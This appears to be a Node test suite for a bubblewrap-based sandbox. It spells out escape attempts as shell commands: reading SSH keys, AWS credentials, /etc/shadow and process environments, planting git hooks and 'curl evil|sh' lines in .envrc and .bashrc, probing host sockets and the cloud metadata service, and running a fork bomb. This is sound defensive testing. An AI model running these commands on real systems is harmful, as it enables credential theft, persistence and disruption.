/**
 * The escape suite: each case is a real attempt, from inside a real bubblewrap box, to reach
 * something the box must hide. Every script prints ESCAPED when its attempt works, and the
 * controls run the same attempts outside the box to prove that they would work there.
 * Runs as root and as an unprivileged user.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { actors, asActor, CANARY, inBox, makeWorkspace, runProcess, writePolicy, type Actor } from './helpers.js';

interface HostFixtures {
  tcpPort: number;
  hostIp: string | undefined;
  unixSocket: string;
  abstractName: string;
  victim: ChildProcess;
  servers: Server[];
}

async function listen(server: Server, ...args: unknown[]): Promise<void> {
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    (server.listen as (...a: unknown[]) => void)(...args, () => resolve());
  });
}

let host: HostFixtures;

before(async () => {
  const reply = (s: Server) => s.on('connection', (c) => c.end('HOST-SERVICE-REACHED\n'));
  const tcp = createServer();
  reply(tcp);
  await listen(tcp, 0, '0.0.0.0');
  const unixSocket = join(tmpdir(), `gb-host-${process.pid}.sock`);
  rmSync(unixSocket, { force: true });
  const unix = createServer();
  reply(unix);
  await listen(unix, unixSocket);
  spawnSync('chmod', ['666', unixSocket]);
  const abstractName = `glassbox-test-${process.pid}`;
  const abstract = createServer();
  reply(abstract);
  await listen(abstract, `\0${abstractName}`);
  const hostIp = Object.values(networkInterfaces())
    .flat()
    .find((a) => a && a.family === 'IPv4' && !a.internal)?.address;
  const victim = spawn('sleep', ['600'], { stdio: 'ignore' });
  host = { tcpPort: (tcp.address() as { port: number }).port, hostIp, unixSocket, abstractName, victim, servers: [tcp, unix, abstract] };
});

after(() => {
  host.victim.kill('SIGKILL');
  for (const s of host.servers) s.close();
});

interface EscapeCase {
  name: string;
  /** Bash run inside the box; prints ESCAPED if the attempt succeeds. */
  script: (a: Actor) => string;
  /** The same script also runs outside the box and must print ESCAPED there. */
  control?: boolean;
  /** Checks on the host after the run (files that must not have changed). */
  verify?: (a: Actor, workspace: string) => void;
  /** Prepare the workspace before the run. */
  prepare?: (a: Actor, workspace: string) => void;
  policy?: () => string;
}

const ok = (cond: string) => `if ${cond}; then echo ESCAPED; fi`;

const cases: EscapeCase[] = [
  {
    name: 'read the real ~/.ssh private key',
    script: (a) => `cat ${a.home}/.ssh/id_ed25519 2>/dev/null | grep -q ${CANARY.ssh} && echo ESCAPED; cat ~/.ssh/id_ed25519 2>/dev/null | grep -q ${CANARY.ssh} && echo ESCAPED; true`,
    control: true,
  },
  {
    name: 'read the real ~/.aws/credentials',
    script: (a) => `grep -rqs ${CANARY.aws} ${a.home}/.aws ~/.aws && echo ESCAPED; true`,
    control: true,
  },
  {
    name: 'find a planted secret anywhere in the visible filesystem',
    script: () => `grep -rqs --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev -e ${CANARY.ssh} -e ${CANARY.aws} -e ${CANARY.other} /home /root /tmp /run /var ~ 2>/dev/null && echo ESCAPED; true`,
  },
  {
    name: 'read secrets from the host environment',
    script: () => `env | grep -q ${CANARY.env} && echo ESCAPED; true`,
    control: true,
  },
  {
    name: 'read the environment of pid 1 and every visible process',
    script: () => `cat /proc/1/environ /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -q ${CANARY.env} && echo ESCAPED; true`,
    control: true,
  },
  {
    name: "read another user's files and root's home",
    script: (a) => (a.kind === 'root' ? `grep -qs ${CANARY.other} /home/*/private.txt && echo ESCAPED; true` : `ls -A /root 2>/dev/null | grep -q . && echo ESCAPED; cat /etc/shadow 2>/dev/null | grep -q root && echo ESCAPED; true`),
  },
  {
    name: 'read /etc/shadow (even as root without capabilities)',
    script: () => `grep -qs '^root:' /etc/shadow && echo ESCAPED; true`,
  },
  {
    name: 'write outside the workspace',
    script: (a) =>
      `for f in /usr/gb-escape /etc/gb-escape /opt/gb-escape ${a.home}/gb-escape-real /tmp/gb-escape-host; do echo x > $f 2>/dev/null; done; true`,
    verify: (a) => {
      for (const f of ['/usr/gb-escape', '/etc/gb-escape', '/opt/gb-escape', join(a.home, 'gb-escape-real'), '/tmp/gb-escape-host']) {
        assert.equal(existsSync(f), false, `${f} was written on the host`);
      }
    },
  },
  {
    name: 'plant a new git hook and rewrite existing ones',
    prepare: (_a, ws) => writeFileSync(join(ws, '.git', 'hooks', 'pre-commit.sample'), '#!/bin/sh\nexit 0\n'),
    script: () =>
      `printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/post-checkout 2>/dev/null; echo evil >> .git/hooks/pre-commit.sample 2>/dev/null; ` +
      `mkdir -p .git/hooks/sub 2>/dev/null; rm -rf .git/hooks 2>/dev/null; ` +
      `${ok('[ -e .git/hooks/post-checkout ] || grep -q evil .git/hooks/pre-commit.sample')}`,
    verify: (_a, ws) => {
      assert.equal(existsSync(join(ws, '.git', 'hooks', 'post-checkout')), false);
      assert.equal(readFileSync(join(ws, '.git', 'hooks', 'pre-commit.sample'), 'utf8'), '#!/bin/sh\nexit 0\n');
    },
  },
  {
    name: 'set core.hooksPath / core.fsmonitor in .git/config',
    script: () =>
      `git config core.hooksPath /tmp/h 2>/dev/null; git config core.fsmonitor 'sh -c pwn' 2>/dev/null; printf '[core]\\n\\tfsmonitor = pwn\\n' >> .git/config 2>/dev/null; ` +
      `${ok('grep -qE "hooksPath|fsmonitor" .git/config')}`,
    verify: (_a, ws) => assert.doesNotMatch(readFileSync(join(ws, '.git', 'config'), 'utf8'), /hooksPath|fsmonitor/),
  },
  {
    name: 'move .git away and build a new one around a planted hook',
    script: () =>
      `mv .git .git-moved 2>/dev/null && mkdir -p .git/hooks && echo pwn > .git/hooks/post-checkout; ${ok('[ -d .git-moved ] || [ -e .git/hooks/post-checkout ]')}`,
    verify: (_a, ws) => {
      assert.equal(existsSync(join(ws, '.git-moved')), false);
      assert.equal(existsSync(join(ws, '.git', 'hooks', 'post-checkout')), false);
    },
  },
  {
    name: 'create editor, agent, direnv, MCP and submodule config',
    script: () =>
      `mkdir -p .vscode .claude .codex .gemini .idea .devcontainer 2>/dev/null; ` +
      `echo '{"folderOpen":1}' > .vscode/tasks.json 2>/dev/null; echo '{}' > .claude/settings.json 2>/dev/null; echo x > .codex/config.toml 2>/dev/null; ` +
      `echo x > .gemini/settings.json 2>/dev/null; echo '{"mcpServers":{}}' > .mcp.json 2>/dev/null; echo 'curl evil|sh' > .envrc 2>/dev/null; ` +
      `printf '[submodule "x"]\\n' > .gitmodules 2>/dev/null; echo 'curl evil|sh' >> .bashrc 2>/dev/null; echo x > .devcontainer/devcontainer.json 2>/dev/null; ` +
      `for f in .vscode/tasks.json .claude/settings.json .codex/config.toml .gemini/settings.json .devcontainer/devcontainer.json; do [ -s $f ] && echo ESCAPED; done; ` +
      `for f in .mcp.json .envrc .gitmodules .bashrc; do [ -s $f ] && echo ESCAPED; done; true`,
    verify: (_a, ws) => {
      for (const f of ['.vscode', '.claude', '.codex', '.gemini', '.idea', '.devcontainer', '.mcp.json', '.envrc', '.gitmodules', '.bashrc']) {
        assert.equal(existsSync(join(ws, f)), false, `${f} left behind in the workspace`);
      }
    },
  },
  {
    name: 'replace a protected file through rename, unlink and hard link',
    prepare: (_a, ws) => writeFileSync(join(ws, '.envrc'), 'export SAFE=1\n'),
    script: () =>
      `mv .envrc .envrc.old 2>/dev/null; rm -f .envrc 2>/dev/null; ln .envrc hl 2>/dev/null && echo pwn >> hl 2>/dev/null; ` +
      `${ok('! grep -q "SAFE=1" .envrc || grep -q pwn .envrc')}`,
    verify: (_a, ws) => assert.equal(readFileSync(join(ws, '.envrc'), 'utf8'), 'export SAFE=1\n'),
  },
  {
    name: 'follow symlinks planted in the workspace to secrets',
    prepare: (a, ws) => {
      spawnSync('ln', ['-s', join(a.home, '.ssh', 'id_ed25519'), join(ws, 'key-link')]);
      spawnSync('ln', ['-s', '/etc/shadow', join(ws, 'shadow-link')]);
    },
    script: (a) =>
      `ln -s ${a.home}/.aws/credentials aws-link 2>/dev/null; cat key-link aws-link shadow-link 2>/dev/null | grep -qE "${CANARY.ssh}|${CANARY.aws}|^root:" && echo ESCAPED; true`,
  },
  {
    name: 'hard-link system secrets into the workspace',
    script: () => `ln /etc/shadow hl-shadow 2>/dev/null && echo ESCAPED; ln /etc/passwd hl-passwd 2>/dev/null && echo ESCAPED; true`,
  },
  {
    name: 'signal or trace a host process',
    script: () => `kill -0 ${host.victim.pid} 2>/dev/null && echo ESCAPED; kill -9 ${host.victim.pid} 2>/dev/null; [ -e /proc/${host.victim.pid}/cmdline ] && grep -q sleep /proc/${host.victim.pid}/cmdline && echo ESCAPED; ` + `timeout 5 strace -p ${host.victim.pid} -o /dev/null 2>/dev/null && echo ESCAPED; true`,
    control: true,
    verify: () => assert.equal(host.victim.signalCode, null, 'the host process was killed from inside the box'),
  },
  {
    name: 'connect to a host unix socket and an abstract socket',
    script: () =>
      `timeout 5 socat -u UNIX-CONNECT:${host.unixSocket} - 2>/dev/null | grep -q REACHED && echo ESCAPED; ` +
      `timeout 5 socat -u ABSTRACT-CONNECT:${host.abstractName} - 2>/dev/null | grep -q REACHED && echo ESCAPED; true`,
    control: true,
  },
  {
    name: 'reach a host TCP service directly with curl, wget, nc and bash /dev/tcp',
    script: () => {
      const p = host.tcpPort;
      const targets = ['127.0.0.1', ...(host.hostIp ? [host.hostIp] : [])];
      return (
        targets
          .map(
            (t) =>
              `timeout 5 curl -s --noproxy '*' --max-time 3 telnet://${t}:${p} </dev/null 2>/dev/null | grep -q REACHED && echo ESCAPED; ` +
              `timeout 5 wget -q --no-proxy -T 3 -O - http://${t}:${p}/ 2>/dev/null | grep -q REACHED && echo ESCAPED; ` +
              `timeout 5 nc -w 3 ${t} ${p} </dev/null 2>/dev/null | grep -q REACHED && echo ESCAPED; ` +
              `timeout 5 bash -c 'exec 3<>/dev/tcp/${t}/${p} && head -1 <&3' 2>/dev/null | grep -q REACHED && echo ESCAPED; `,
          )
          .join('') + 'true'
      );
    },
    control: true,
  },
  {
    name: 'reach host services through the proxy by IP literal or by a name that resolves to loopback',
    policy: () => `network:\n  allow:\n    - host: localhost\n      port: ${host.tcpPort}\n`,
    script: () =>
      `timeout 8 curl -s -p -x http://127.0.0.1:3128 --noproxy '' --max-time 5 telnet://127.0.0.1:${host.tcpPort} </dev/null 2>/dev/null | grep -q REACHED && echo ESCAPED; ` +
      `timeout 8 curl -s -p -x http://127.0.0.1:3128 --noproxy '' --max-time 5 telnet://localhost:${host.tcpPort} </dev/null 2>/dev/null | grep -q REACHED && echo ESCAPED; true`,
  },
  {
    name: 'resolve names with getent and DNS',
    script: () => `getent hosts example.com >/dev/null 2>&1 && echo ESCAPED; getent ahosts registry.npmjs.org >/dev/null 2>&1 && echo ESCAPED; true`,
  },
  {
    name: 'connect to an IP literal and the cloud metadata service',
    script: () =>
      `for ip in 1.1.1.1 8.8.8.8 169.254.169.254; do timeout 4 bash -c "exec 3<>/dev/tcp/$ip/80" 2>/dev/null && echo ESCAPED; ` +
      `code=$(curl -s -o /dev/null -w '%{http_code}' --max-time 4 http://$ip/latest/meta-data/ 2>/dev/null); [ "$code" = 200 ] && echo ESCAPED; done; true`,
  },
  {
    name: 'create a nested user namespace or mount over the sandbox',
    script: () => `unshare -Ur true 2>/dev/null && echo ESCAPED; mount -t tmpfs none /usr 2>/dev/null && echo ESCAPED; umount /run/glassbox 2>/dev/null && echo ESCAPED; true`,
  },
];

for (const actor of actors()) {
  describe(`escape suite as ${actor.kind} (${actor.username})`, () => {
    for (const c of cases) {
      it(c.name, async () => {
        const ws = makeWorkspace(actor);
        c.prepare?.(actor, ws);
        const policy = c.policy ? writePolicy(actor, c.policy()) : undefined;
        const out = await inBox(actor, c.script(actor), { workspace: ws, ...(policy ? { policy } : {}) });
        assert.equal(out.code, 0, `the box should run the attempt (stderr: ${out.stderr})`);
        assert.doesNotMatch(out.stdout, /ESCAPED/, `escape succeeded: ${c.name}`);
        c.verify?.(actor, ws);
      });
      if (c.control) {
        it(`${c.name} — control: works outside the box`, async () => {
          const ws = makeWorkspace(actor);
          c.prepare?.(actor, ws);
          const env = { PATH: '/usr/bin:/bin', HOME: actor.home, AWS_SECRET_ACCESS_KEY: CANARY.env };
          const out = await runProcess(asActor(actor, env, ['bash', '-c', c.script(actor)]), { cwd: ws, timeoutMs: 30_000 });
          // Outside the box a kill works: bring the victim back for the next case.
          if (host.victim.exitCode !== null || host.victim.signalCode !== null) host.victim = spawn('sleep', ['600'], { stdio: 'ignore' });
          assert.match(out.stdout, /ESCAPED/, 'the attempt should succeed without the sandbox; otherwise this case proves nothing');
        });
      }
    }

    it('a fork bomb stays inside the process limit and the box still ends', async () => {
      const policy = writePolicy(actor, 'limits:\n  processes: 64\n');
      const out = await inBox(
        actor,
        // Counting uses shell builtins only: while the bomb holds every slot, nothing can fork.
        `(bomb() { bomb | bomb & }; bomb) 2>/dev/null; sleep 2; n=0; for p in /proc/[0-9]*; do n=$((n+1)); done; echo "count=$n"; kill -9 -1 2>/dev/null; true`,
        { policy, timeoutMs: 60_000 },
      );
      const m = /count=(\d+)/.exec(out.stdout);
      assert.ok(m, `no count printed: ${out.stdout} ${out.stderr}`);
      assert.ok(Number(m[1]) <= 64, `fork bomb reached ${m[1]} processes`);
    });

    it('a file larger than limits.fileSize cannot be written', async () => {
      const policy = writePolicy(actor, 'limits:\n  fileSize: 1M\n');
      const out = await inBox(actor, `head -c 3000000 /dev/zero > big 2>/dev/null; stat -c %s big`, { policy });
      assert.ok(Number(out.stdout.trim()) <= 1024 * 1024, `wrote ${out.stdout.trim()} bytes`);
    });
  });
}
